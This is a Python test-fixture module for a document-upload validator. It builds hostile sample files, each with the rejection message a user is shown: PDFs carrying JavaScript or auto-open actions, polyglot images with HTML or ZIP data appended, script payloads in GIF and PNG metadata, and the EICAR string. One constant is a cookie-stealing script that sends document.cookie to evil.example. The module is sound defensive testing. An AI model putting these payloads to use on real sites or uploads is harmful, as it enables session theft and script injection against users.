"""A corpus of hostile files, made here (nothing downloaded): each is something an upload must refuse, with the
words a person gets for it. Built on the real minimal files of `files`."""

import io
import zlib

from PIL import Image

from coopfunds.documents.tests import files

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
JS_ACTION = b"4 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>"


def _objstm_without_eol(objects: bytes) -> bytes:
    """An object stream whose `stream` keyword has no end of line after it (readers take it all the same)."""
    data = zlib.compress(objects)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>stream" % len(data) + data + b"endstream"


def _objstm_with_predictor(objects: bytes) -> bytes:
    data = zlib.compress(objects)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >> "
    return head + b"/Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _gif_with_comment(comment: bytes) -> bytes:
    gif = files.image("GIF")
    # a comment extension (0x21 0xFE, sub-blocks of at most 255 bytes) right after the header and screen
    # descriptor and the global colour table
    flags = gif[10]
    table = 3 * 2 ** ((flags & 0x07) + 1) if flags & 0x80 else 0
    at = 13 + table
    block = b"\x21\xfe" + bytes([len(comment)]) + comment + b"\x00"
    return gif[:at] + block + gif[at:]


def png_with_text(text: bytes) -> bytes:
    buffer = io.BytesIO()
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text.decode())
    Image.new("RGB", (40, 30), "blue").save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


# (file name, content, the reason a person reads: the message's tail after the file's name)
CORPUS: list[tuple[str, bytes, str]] = [
    (
        "objstm-js.pdf",
        files.pdf(objects=(files.object_stream(JS_ACTION),)),
        "contains JavaScript, which is not accepted in a PDF; print it to a new PDF and upload that.",
    ),
    (
        "objstm-js-no-eol.pdf",
        files.pdf(objects=(_objstm_without_eol(JS_ACTION),)),
        "contains JavaScript, which is not accepted in a PDF; print it to a new PDF and upload that.",
    ),
    (
        "objstm-predictor.pdf",
        files.pdf(objects=(_objstm_with_predictor(JS_ACTION),)),
        "uses a compression we can't check; print it to a new PDF and upload that.",
    ),
    (
        "open-uri.pdf",
        files.pdf(catalog_extra="/OpenAction << /S /URI /URI (https://evil.example/) >> "),
        "contains an action that runs by itself when the file is opened, which is not accepted in a PDF; print it "
        "to a new PDF and upload that.",
    ),
    (
        "link.pdf",
        files.pdf(objects=(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://evil.example/) >> >>",)),
        "contains a web address it can open, which is not accepted in a PDF; print it to a new PDF and upload that.",
    ),
    (
        "page-action.pdf",
        files.pdf(objects=(b"<< /Type /Page /AA << /O 5 0 R >> >>",)),
        "contains actions that run by themselves when a page or field is shown, which is not accepted in a PDF; "
        "print it to a new PDF and upload that.",
    ),
    (
        "polyglot.pdf",
        files.pdf() + HTML,
        "has a web page (HTML) hidden inside it, which can carry scripts; print it to a new PDF and upload that.",
    ),
    (
        "html-tail.png",
        files.png() + HTML,
        "has a web page (HTML) hidden inside it, which can carry scripts; save the image again and upload that.",
    ),
    (
        "zip-tail.png",
        files.png() + files.plain_zip({"run.js": b"alert(1)"}),
        "has data after the end of the image (another file hidden behind it); save the image again and upload that.",
    ),
    (
        "zip-tail.jpg",
        files.jpeg() + files.plain_zip({"run.js": b"alert(1)"}),
        "has data after the end of the image (another file hidden behind it); save the image again and upload that.",
    ),
    (
        "script-comment.gif",
        _gif_with_comment(b"<script>alert(1)</script>"),
        "has a web page (HTML) hidden inside it, which can carry scripts; save the image again and upload that.",
    ),
    (
        "script-text.png",
        png_with_text(b"<svg onload=alert(1)>"),
        "has a web page (HTML) hidden inside it, which can carry scripts; save the image again and upload that.",
    ),
    ("empty.pdf", b"", "is empty."),
    ("eicar.pdf", EICAR, "is named .pdf but is not a PDF document; accepted here: {accepted}."),
    ("setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "is a program, not a document; accepted here: {accepted}."),
    (
        "page.pdf",
        HTML,
        "is a web page or SVG image, which can carry scripts; these are not accepted. Save it as PDF and upload that.",
    ),
]
